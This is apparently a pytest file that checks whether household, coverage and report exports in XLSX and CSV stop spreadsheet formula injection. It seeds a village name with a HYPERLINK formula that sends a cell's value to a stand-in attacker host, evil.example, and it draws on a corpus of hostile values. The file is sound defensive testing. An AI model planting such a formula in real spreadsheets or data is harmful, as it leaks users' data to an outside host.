"""Issue 11, finding 6: every exported cell is text a spreadsheet shows, never runs, can hold."""

from __future__ import annotations

import csv
import io
import re
import uuid
from typing import Any

import pytest
from openpyxl import load_workbook

from server.accounts import roles
from server.areas.services import add_village
from server.lessons.models import PublishedLesson
from server.web import cells
from tests.api.lessons import SLUG, take_quiz
from tests.data import COMMUNE_A, household_data, mutation
from tests.export_corpus import PAYLOADS

_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
VILLAGE_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Click")\u0001'


def _cleaned(text: str) -> str:
    """What the export should show: the text as stored (trimmed), less control characters."""
    return _CONTROL.sub("", text.strip())


@pytest.fixture
async def hostile(push, user, login):
    """A village with a formula for a name, and one household per corpus entry."""
    place = await add_village(COMMUNE_A, f"{VILLAGE_NAME} {uuid.uuid4().hex[:6]}", 40)
    member = await login(await user(roles.MEMBER, place.code))
    mutations = [
        mutation(uuid.uuid4(), household_data(place.code, head_name=text, address=text))
        for text in PAYLOADS
    ]
    await push(member, f"d-{place.code}", mutations, expect={"applied"})
    await take_quiz(push, member, await PublishedLesson.get(slug=SLUG), wrong=set())
    return place


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _assert_safe_csv(rows: list[list[str]]) -> set[str]:
    for row in rows:
        for value in row:
            assert not value.startswith(cells.FORMULA_STARTS), value
            assert not _CONTROL.search(value.replace("\t", "").replace("\r", "")), value
    return {value.removeprefix("'") for row in rows for value in row}


@pytest.mark.parametrize("level", ["village", "commune", "province"])
async def test_household_exports_show_hostile_text_as_text(client, login, user, hostile, level):
    code = {"village": hostile.code, "commune": COMMUNE_A, "province": "38"}[level]
    headers = await login(await user(roles.COORDINATOR, "38" if level == "province" else COMMUNE_A))

    xlsx = await client.get(f"/coverage/{code}/export/households.xlsx", headers=headers)
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    texts: set[Any] = set()
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # never a formula
            texts.add(cell.value)
    assert {_cleaned(text) for text in PAYLOADS} <= texts  # as typed, less control characters
    assert hostile.name.replace("\u0001", "") in texts

    download = await client.get(f"/coverage/{code}/export/households.csv", headers=headers)
    assert download.status_code == 200
    shown = _assert_safe_csv(_csv_cells(download.content))
    assert {_cleaned(text) for text in PAYLOADS} <= shown
    shown_village = "'" + hostile.name.replace("\u0001", "")
    people = [row[4] for row in _csv_cells(download.content)[1:] if row[1] == shown_village]
    assert people == ["4"] * len(PAYLOADS)  # numbers are left alone


async def test_coverage_exports_keep_numbers_and_neutralise_the_village_name(
    client, login, user, hostile
):
    headers = await login(await user(roles.COORDINATOR, COMMUNE_A))

    xlsx = await client.get(f"/coverage/{COMMUNE_A}/export/coverage.xlsx", headers=headers)
    assert xlsx.status_code == 200, xlsx.text
    rows = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows())
    mine = next(row for row in rows if row[3].value == hostile.code)
    assert (mine[2].value, mine[2].data_type) == (hostile.name.replace("\u0001", ""), "s")
    assert (mine[4].value, mine[5].value) == (40, len(PAYLOADS))  # numbers stay numbers

    download = await client.get(f"/coverage/{COMMUNE_A}/export/coverage.csv", headers=headers)
    rows_csv = _csv_cells(download.content)
    _assert_safe_csv(rows_csv)
    line = next(row for row in rows_csv if row[3] == hostile.code)
    assert line[2] == "'" + hostile.name.replace("\u0001", "")


async def test_lesson_report_csv_neutralises_area_names(client, login, user, hostile):
    headers = await login(await user(roles.COORDINATOR, COMMUNE_A))

    download = await client.get(
        "/trainer/reports.csv", params={"area": hostile.code}, headers=headers
    )

    assert download.status_code == 200, download.text
    rows = _csv_cells(download.content)
    _assert_safe_csv(rows)
    assert {row[3] for row in rows[1:]} == {"'" + hostile.name.replace("\u0001", "")}


@pytest.mark.parametrize("value", [-5, -0.5, 0, 12, 3.25])
def test_real_numbers_stay_numbers(value: float) -> None:
    assert cells.csv_cell(value) == value
    assert cells.xlsx_row(None, [value]) == [value]  # type: ignore[arg-type]
